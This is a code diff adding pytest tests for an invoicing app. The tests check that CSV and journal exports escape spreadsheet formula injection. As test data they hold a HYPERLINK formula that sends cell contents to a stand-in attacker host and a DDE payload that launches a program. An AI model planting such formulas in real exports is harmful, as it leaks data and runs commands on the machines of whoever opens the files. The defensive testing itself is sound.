@@ -22,6 +22,7 @@ from facturier.billing.services import (
     invoice_issue,
     payment_record,
 )
+from facturier.core.forecast import ForecastItem
 from tests.actors import SYS
 
 D = Decimal
@@ -232,3 +233,84 @@ def test_exports_read_in_chunks_without_n_plus_one(
 def test_filename(company):
     name = exports.journal_filename(company, **PERIOD)
     assert name == "732829320-journal-ventes-20261101-20261130.txt"
+
+
+# --- cells a spreadsheet would run as formulas (OWASP "CSV injection") ---------------------
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+
+
+@pytest.mark.parametrize(
+    ("cell", "written"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+33 1 23 45 67 89", "'+33 1 23 45 67 89"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
+        ("\t=1", "'\t=1"),
+        ("\r=1", "'\r=1"),
+        ("  =1", "'  =1"),
+        ("\n@x", "'\n@x"),
+        ("\uff1d1+1", "'\uff1d1+1"),  # a full-width equals sign
+        # Numbers and dates stay what they are; so does a text that starts harmlessly.
+        ("-12,50", "-12,50"),
+        ("-3.00", "-3.00"),
+        ("1234,56", "1234,56"),
+        ("28/11/2026", "28/11/2026"),
+        ("2026-11-28", "2026-11-28"),
+        ("", ""),
+        ("Boulangerie = pain", "Boulangerie = pain"),
+        ("-", "'-"),
+    ],
+)
+def test_spreadsheet_safe(cell, written):
+    assert exports.spreadsheet_safe(cell) == written
+
+
+def _csv(lines):
+    return list(csv.reader(io.StringIO("".join(lines).lstrip("\ufeff")), delimiter=";"))
+
+
+def test_formulas_are_written_as_text_in_every_export(company, customer, make_draft):
+    customer_update(customer, legal_name=FORMULA, code="@SUM(1+1)")
+    issued = _issue(make_draft, None, customer_po="+BC")
+    make_draft()  # a draft shows the customer as it is now
+    payment_record(customer=customer, amount=D("10.00"), received_on=date(2026, 11, 20),
+                   method="transfer", reference="-cmd|' /C calc'!A0", actor=SYS)  # fmt: skip
+    credit_note_create(issued, actor=SYS, lines=[LineData(description="x", unit_price=D(50))])
+    invoices = _csv(exports.csv_file(exports.invoice_rows(
+        Invoice.objects.filter(company=company).order_by("pk"))))  # fmt: skip
+    for row in invoices[1:]:
+        record = dict(zip(invoices[0], row, strict=True))
+        assert (record["customer"], record["customer_code"]) == ("'" + FORMULA, "'@SUM(1+1)")
+    credit = dict(zip(invoices[0], invoices[3], strict=True))
+    assert credit["type"] == "credit_note" and credit["total_gross"] == "60,00"  # positive
+    payments = _csv(exports.csv_file(exports.payment_rows(
+        exports.payments_for(company, start=None, end=None))))  # fmt: skip
+    paid = dict(zip(payments[0], payments[1], strict=True))
+    assert paid["reference"] == "'-cmd|' /C calc'!A0"
+    assert (paid["customer"], paid["amount"]) == ("'" + FORMULA, "10,00")
+    journal = _journal_table(company, **PERIOD)
+    for row in journal[1:]:
+        assert not row[6] or row[6] == "'@SUM(1+1)"
+        assert not row[7] or row[7] == "'" + FORMULA
+    iso = list(csv.reader(io.StringIO("".join(exports.csv_file(exports.invoice_rows(
+        Invoice.objects.filter(doc_type="credit_note"), style="iso"), style="iso")))))  # fmt: skip
+    assert iso[1][6] == "'" + FORMULA
+
+
+def test_negative_amounts_stay_numbers(company, make_draft):
+    make_draft([LineData(description="-Remise", quantity=D(-1), unit_price=D(30))])
+    rows = _csv(exports.csv_file(exports.invoice_rows(Invoice.objects.all())))
+    draft = dict(zip(rows[0], rows[1], strict=True))
+    assert (draft["total_net"], draft["total_gross"], draft["balance"]) == (
+        "-30,00", "-36,00", "-36,00",
+    )  # fmt: skip
+    rows = exports.invoice_rows(Invoice.objects.all(), style="iso")
+    assert ",-30.00,-6.00,-36.00," in "".join(exports.csv_lines(rows, style="iso"))
+    forecast = ForecastItem(date(2026, 12, 1), 7, "=Abonnement", "+Client", D("-10.00"),
+                            D("-2.00"), date(2026, 12, 1), date(2026, 12, 31), False)  # fmt: skip
+    [header, row] = _csv(exports.csv_file(exports.forecast_rows([forecast])))
+    assert header == exports.FORECAST_HEADER
+    assert row[2:4] == ["'=Abonnement", "'+Client"]
+    assert row[7:10] == ["-10,00", "-2,00", "-12,00"]
